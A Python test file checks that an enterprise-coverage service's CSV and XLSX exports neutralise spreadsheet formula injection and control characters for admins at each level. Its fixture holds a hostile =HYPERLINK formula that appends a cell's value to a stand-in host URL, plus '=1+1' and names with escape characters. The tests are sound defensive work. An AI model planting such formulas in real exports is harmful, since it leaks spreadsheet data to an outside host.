"""The uncovered-unit exports are safe to open in a spreadsheet, at every level of the hierarchy."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from core.enterprises.models import Enterprise

HYPERLINK = '=HYPERLINK("http://x"&A1,"点我")'


@pytest.fixture
def hostile_units(session):
    """Key units whose names came in before imports cleaned them (inserted directly on purpose:
    the importers now strip control characters, so they cannot produce such rows)."""
    rows = [
        ("91320500MA1XXXXX01", HYPERLINK, "=1+1"),
        ("91320500MA1XXXXX02", "华宏\x1b化工有限公司", "张\x07三"),
        ("913205001234567890", "恒泰造纸有限公司", "李四"),
    ]
    for code, name, rep in rows:
        session.add(
            Enterprise(
                credit_code=code,
                name=name,
                province="江苏省",
                city="苏州市",
                division_code="320500",
                industry="化工",
                management_category="重点管理",
                permit_status="有效",
                legal_rep_name=rep,
                legal_rep_since=dt.date(2023, 1, 1),
            )
        )
    session.flush()


ADMINS = {
    "city": {"province": "江苏省", "city": "苏州市"},
    "province": {"province": "江苏省"},
    "national": {},
}


@pytest.mark.parametrize("role", ADMINS)
def test_xlsx_keeps_formulas_as_text_and_survives_control_characters(
    client, make_user, auth_headers, hostile_units, role
):
    admin = make_user(role, **ADMINS[role])
    response = client.get(
        "/api/coverage/uncovered?as_of=2024-06-30&format=xlsx", headers=auth_headers(admin)
    )
    assert response.status_code == 200  # a single \x1b used to make this a 500 for everyone
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=3)}
    assert set(cells) == {HYPERLINK, "华宏化工有限公司", "恒泰造纸有限公司"}
    linked = cells[HYPERLINK]
    assert linked[0].data_type == "s" and (linked[4].value, linked[4].data_type) == ("=1+1", "s")
    assert cells["华宏化工有限公司"][4].value == "张三"
    code = cells["恒泰造纸有限公司"][1]
    assert (code.value, code.data_type) == ("913205001234567890", "s")


@pytest.mark.parametrize("role", ADMINS)
def test_csv_neutralises_formulas_and_keeps_digit_codes_as_text(
    client, make_user, auth_headers, hostile_units, role
):
    admin = make_user(role, **ADMINS[role])
    response = client.get(
        "/api/coverage/uncovered?as_of=2024-06-30&format=csv", headers=auth_headers(admin)
    )
    assert response.status_code == 200
    rows = {r[0]: r for r in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))}
    assert rows["'" + HYPERLINK][4] == "'=1+1"
    assert rows["华宏化工有限公司"][4] == "张三"
    assert rows["恒泰造纸有限公司"][1] == "\t913205001234567890"


@pytest.fixture
def hostile_covered_units(session, hostile_units):
    """The same units, each with its representative trained."""
    from courses.models import Course, TrainingRecord

    course = Course(code="LR-X", title="法定代表人培训", audience="法定代表人", kind="必修")
    session.add(course)
    session.flush()
    for unit in session.scalars(select(Enterprise)):
        session.add(
            TrainingRecord(
                enterprise_id=unit.id,
                person_name=unit.legal_rep_name,
                role="法定代表人",
                course_id=course.id,
                completed_on=dt.date(2024, 3, 1),
                passed=True,
                source="import",
            )
        )
    session.flush()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_covered_exports_are_safe_too(client, make_user, auth_headers, hostile_covered_units, fmt):
    admin = make_user("national")
    response = client.get(
        f"/api/coverage/covered?as_of=2024-06-30&format={fmt}", headers=auth_headers(admin)
    )
    assert response.status_code == 200
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = {row[0].value: row for row in sheet.iter_rows(min_row=3)}
        assert cells[HYPERLINK][0].data_type == "s" and cells[HYPERLINK][4].data_type == "s"
        assert cells["华宏化工有限公司"][4].value == "张三"
    else:
        rows = {r[0]: r for r in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))}
        assert rows["'" + HYPERLINK][4] == "'=1+1"
        assert rows["恒泰造纸有限公司"][1] == "\t913205001234567890"
